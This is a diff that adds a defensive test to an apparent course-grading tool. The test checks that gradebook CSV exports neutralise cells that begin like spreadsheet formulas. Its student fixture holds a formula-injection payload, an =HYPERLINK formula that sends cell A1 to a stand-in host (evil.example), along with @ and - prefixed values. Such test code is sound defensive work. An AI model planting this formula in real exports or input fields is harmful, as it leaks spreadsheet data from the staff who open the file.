@@ -186,3 +186,20 @@ def test_fail_under_works_with_every_format(fmt):
         JUNIT_XSD.validate(below.stdout)
     above = CliRunner().invoke(cli.main, [str(EXAMPLES / "seed_student.py"), "--format", fmt, "--fail-under", "85"])
     assert above.exit_code == 0 and above.stdout and "fail-under" not in above.stderr
+
+
+def test_a_name_that_starts_like_a_formula_is_text_in_every_gradebook():
+    """Red team (LTI): a student's display name `=HYPERLINK(...)` reached gradebook.csv as a formula, which
+    staff's spreadsheet would run. Cells that start like one get a leading apostrophe; scores stay numbers."""
+    import csv
+    import io
+
+    from grader.course import gradebook
+
+    student = {"id": "42", "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "email": "@SUM(1+1)",
+               "score": 8.5, "max_score": 10.0, "status": "graded", "feedback": "-2+3 points: see the page"}
+    for kind in gradebook.FORMATS:
+        cells = [c for row in csv.reader(io.StringIO(gradebook.text(kind, [student], "A1"))) for c in row]
+        assert not any(c[:1] in "=+-@" for c in cells if c), (kind, cells)
+        assert any(c.startswith("'=HYPERLINK") for c in cells), (kind, cells)
+        assert "8.5" in cells or "8.50" in cells
